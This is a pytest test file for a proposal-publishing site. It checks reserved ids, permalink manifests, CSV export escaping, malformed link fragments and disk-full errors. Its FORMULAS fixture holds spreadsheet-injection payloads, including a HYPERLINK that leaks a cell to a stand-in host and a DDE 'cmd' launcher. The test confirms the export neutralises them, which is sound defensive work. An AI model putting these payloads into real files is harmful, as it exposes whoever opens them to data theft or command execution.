"""What the site refuses or neutralises (issue 12): ids the page itself uses, unrecorded
permalinks in a strict build, a manifest saved with a byte-order mark, spreadsheet formulas in the
CSV export, malformed fragments in a link."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from bs4 import BeautifulSoup

from bench.harness import build_site, run_build
from cppcc import exports, indexprocess, permalinks, spooling, urls
from cppcc.linking import Links
from cppcc.loading import LoadError, load_corpus
from cppcc.schema import proposal_schema
from helpers import copy_project

REPO = Path(__file__).resolve().parents[1]


def replace(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert text.count(old) == 1, old
    path.write_text(text.replace(old, new), encoding="utf-8")


@pytest.mark.parametrize("item_id", ["cppcc-live", "cppcc-target", "background", "related"])
def test_an_item_may_not_take_an_id_of_the_page_itself(tmp_path, item_id):
    root = copy_project(tmp_path)
    replace(root / "proposals" / "rule-of-law.yaml", "- id: legal-workforce\n", f"- id: {item_id}\n")
    with pytest.raises(LoadError) as error:
        load_corpus(root / "proposals", display_root=root)
    (issue,) = [i for i in error.value.issues if i.path == "problems[1].id"]
    assert issue.file == "proposals/rule-of-law.yaml"
    assert issue.message in (
        "must not start with 'cppcc-': the site's own elements use such ids",
        f"must not be '{item_id}': that id belongs to a section of the page")


def test_the_schema_refuses_the_same_ids():
    jsonschema = pytest.importorskip("jsonschema")
    schema = json.loads(proposal_schema())
    document = yaml.safe_load((REPO / "proposals" / "rule-of-law.yaml").read_text("utf-8"))
    jsonschema.validate(document, schema)
    for item_id in ("cppcc-live", "background", "__config"):
        document["problems"][0]["id"] = item_id
        with pytest.raises(jsonschema.ValidationError):
            jsonschema.validate(document, schema)


def test_every_id_the_page_gives_its_own_elements_is_reserved(site_dir):
    """The ids of a built proposal page that are not items' are sections' or carry a reserved
    prefix, so that no item can ever collide with one."""
    corpus = load_corpus(REPO / "proposals")
    for proposal in corpus.proposals:
        html = BeautifulSoup((site_dir / proposal.slug / "index.html").read_text("utf-8"),
                             "html.parser")
        items = {name for item in proposal.items() for name in (item.id, *item.aliases)}
        own = {tag["id"] for tag in html.select("[id]")} - items
        assert own, proposal.slug
        assert all(i in urls.SECTIONS or i.startswith(urls.ID_PREFIXES) for i in own), own


def test_a_strict_build_refuses_a_site_whose_permalinks_are_unrecorded(tmp_path):
    """Deleting the manifest and renaming a slug must not publish silently."""
    root = copy_project(tmp_path)
    (root / "proposals" / permalinks.MANIFEST).unlink()
    replace(root / "proposals" / "rule-of-law.yaml", "slug: rule-of-law\n", "slug: lawful\n")
    done = run_build(root / "site", root / "mkdocs.yml")
    assert done.returncode != 0
    assert "Traceback" not in done.stderr
    assert (f"proposals/permalinks.txt is missing, so no published permalink is protected: run "
            f"`{permalinks.UPDATE}` to record them") in done.stderr
    assert not (root / "site").exists()


def test_a_strict_build_refuses_new_permalinks_until_they_are_recorded(tmp_path):
    root = copy_project(tmp_path)
    replace(root / "proposals" / "rule-of-law.yaml", "- id: legal-workforce\n",
            "- id: workforce\n    aliases: [legal-workforce]\n")
    replace(root / "proposals" / "rule-of-law.yaml", "answers: [legal-workforce]",
            "answers: [workforce]")
    done = run_build(root / "site", root / "mkdocs.yml")
    assert done.returncode != 0
    assert (f"1 new permalink is not yet recorded in proposals/permalinks.txt: run "
            f"`{permalinks.UPDATE}`") in done.stderr
    assert not (root / "site").exists()
    corpus = load_corpus(root / "proposals")
    manifest = root / "proposals" / permalinks.MANIFEST
    recorded = permalinks.read_manifest(manifest)
    permalinks.write_manifest(manifest, recorded + permalinks.check(corpus, recorded).new)
    build_site(root / "site", root / "mkdocs.yml")


def test_a_manifest_saved_with_a_byte_order_mark_reads_the_same(tmp_path):
    manifest = tmp_path / permalinks.MANIFEST
    text = (REPO / "proposals" / permalinks.MANIFEST).read_text(encoding="utf-8")
    manifest.write_text("\ufeff" + text, encoding="utf-8")
    recorded = permalinks.read_manifest(manifest)
    assert recorded == permalinks.read_manifest(REPO / "proposals" / permalinks.MANIFEST)
    assert permalinks.check(load_corpus(REPO / "proposals"), recorded).missing == []


FORMULAS = {"headline": '=HYPERLINK("http://example.invalid/?leak="&A2,"点击查看")',
            "title": "+cmd|' /C calc'!A0", "speaker": "@SUM(1+1)", "tab": "\t=1+1",
            "minus": "-2+3"}


def test_csv_cells_never_start_a_formula_and_the_json_stays_exact():
    corpus = load_corpus(REPO / "proposals")
    first = corpus.proposals[0]
    rec = first.recommendations[0].model_copy(update={"headline": FORMULAS["headline"]})
    changed = first.model_copy(update={
        "title": FORMULAS["title"], "recommendations": [rec, *first.recommendations[1:]],
        "speaker": first.speaker.model_copy(update={"name": FORMULAS["speaker"]})})
    links = Links(corpus.model_copy(update={"proposals": [changed, *corpus.proposals[1:]]}))
    rows = list(csv.reader(io.StringIO(b"".join(exports.recommendations_csv(links)).decode("utf-8-sig"))))
    header, row = rows[0], rows[1]
    found = dict(zip(header, row))
    assert found["headline"] == "'" + FORMULAS["headline"]
    assert found["proposal_title"] == "'" + FORMULAS["title"]
    assert found["speaker"] == "'" + FORMULAS["speaker"]
    assert not any(cell.startswith(exports.FORMULA_START) for r in rows for cell in r)
    data = json.loads(b"".join(exports.proposals_json(links)))
    assert data["proposals"][0]["title"] == FORMULAS["title"]
    assert data["proposals"][0]["recommendations"][0]["headline"] == FORMULAS["headline"]
    assert [exports.cell(v) for v in (FORMULAS["tab"], FORMULAS["minus"], "普通", 3)] == [
        "'\t=1+1", "'-2+3", "普通", "3"]


@pytest.mark.browser
@pytest.mark.parametrize("fragment", ["%", "%E0%A4%A", "%zz", "legal-workforce%"])
def test_a_malformed_fragment_throws_nothing(page, base_url, fragment):
    """The `page` fixture fails the test on any uncaught error in the page."""
    page.goto(f"{base_url}rule-of-law/#{fragment}")
    page.wait_for_load_state("load")
    assert page.locator(".cppcc-target").count() == 0
    page.goto(f"{base_url}rule-of-law/#legal-workforce")
    page.evaluate("location.hash = '#%E0%A4%A'")
    page.wait_for_timeout(100)
    assert page.title()


@pytest.mark.skipif(not shutil.which("unshare"), reason="needs unshare(1) to mount a tmpfs")
def test_a_full_disk_gets_one_line_and_the_previous_site_survives(tmp_path):
    """The site's folder on a 600 KB tmpfs (mounted in a namespace of the test's own)."""
    disk = tmp_path / "disk"
    disk.mkdir()
    site = disk / "site"
    cmd = (f"mount -t tmpfs -o size=600k tmpfs {disk} && mkdir {site} && echo old > {site}/x && "
           f"{sys.executable} -m mkdocs build --strict -f {REPO / 'mkdocs.yml'} -d {site}; "
           f"echo rc=$?; ls -A {disk}; cat {site}/x")
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1"}
    done = subprocess.run(["unshare", "-rm", "sh", "-c", cmd], capture_output=True, text=True,
                          env=env, check=False)
    if "mount" in done.stderr and "rc=" not in done.stdout:
        pytest.skip(f"cannot mount a tmpfs here: {done.stderr.strip()}")
    assert "rc=1" in done.stdout
    assert done.stdout.split("rc=1", 1)[1].split() == ["site", "old"]
    assert "Traceback" not in done.stderr
    errors = [line for line in done.stderr.splitlines() if line.startswith("ERROR")]
    assert len(errors) == 1
    assert f"{site} could not be written: No space left on device (" in errors[0]
    assert errors[0].endswith("; the previous site is untouched")


def test_a_full_disk_names_the_file_our_writers_were_writing(tmp_path, monkeypatch):
    """A write that finds the disk full says so without a file name: the spools of pages and
    outputs and the writer of the index and exports name it, for the build's one line."""
    def full(fd, data):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "write", full)
    spool = spooling.Spool(tmp_path / "spool")
    with pytest.raises(OSError) as raised:
        spool.write("正文")
    assert (raised.value.errno, raised.value.filename) == (
        errno.ENOSPC, str(tmp_path / "spool" / str(os.getpid())))
    spool.close()
    monkeypatch.undo()

    def chunks():  # the disk fills up while the file is written
        yield b"{"
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    with pytest.raises(OSError) as raised:
        indexprocess.write_files(tmp_path / "site", [("a/b.json", chunks())])
    assert (raised.value.errno, raised.value.filename) == (
        errno.ENOSPC, str(tmp_path / "site" / "a" / "b.json"))
